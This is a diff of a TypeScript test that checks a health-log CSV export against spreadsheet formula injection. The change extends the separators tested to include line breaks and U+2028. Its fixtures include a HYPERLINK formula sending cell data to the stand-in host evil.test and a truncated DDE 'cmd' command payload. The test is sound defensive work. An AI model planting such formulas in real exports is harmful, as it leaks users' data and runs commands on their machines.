@@ -10,14 +10,16 @@ const FORMULAS = ['SUM(A1:A9)', `HYPERLINK("https://evil.test/"&A1)`, "cmd|' /C 
 
 const cellsOf = (csv: string): string[] => Papa.parse<string[]>(csv, { newline: '\r\n', delimiter: ',' }).data.flat()
 
-test('row 36, formulas in CSV cells: nothing is run where a semicolon or a tabulator parts cells', () => {
+test('row 36, formulas in CSV cells: nothing is run where a semicolon, a tabulator or the end of a line parts cells', () => {
   for (const beginning of BEGINNINGS.filter((one) => one.trim() !== '')) {
-    const texts = [';', '; ', '\t', ';"', ';" '].map((parting) => `a${parting}${beginning}1+1`)
+    const texts = [';', '; ', '\t', ';"', ';" ', '\n', '\r\n', '\r "', '\u2028'].map(
+      (parting) => `a${parting}${beginning}1+1`,
+    )
     const rows = rowsOf(
       ['pain', nov(3), { nrs: 4, note: texts[0] ?? '', triggers: texts }],
       ['condition', nov(30), { name: texts[1] ?? '' }],
     )
-    const lines = snapshotCsv(snapshotOf({ rows, purpose: texts[2] ?? '' })).split('\r\n')
+    const lines = snapshotCsv(snapshotOf({ rows, purpose: texts[2] ?? '' })).split(/[\r\n\u2028]+/)
     const cells = lines.flatMap((line) => line.split(/[;\t]/))
     expect(cells.filter((cell) => cell.replace(/^[\s"]+/, '').startsWith(beginning))).toEqual([])
   }
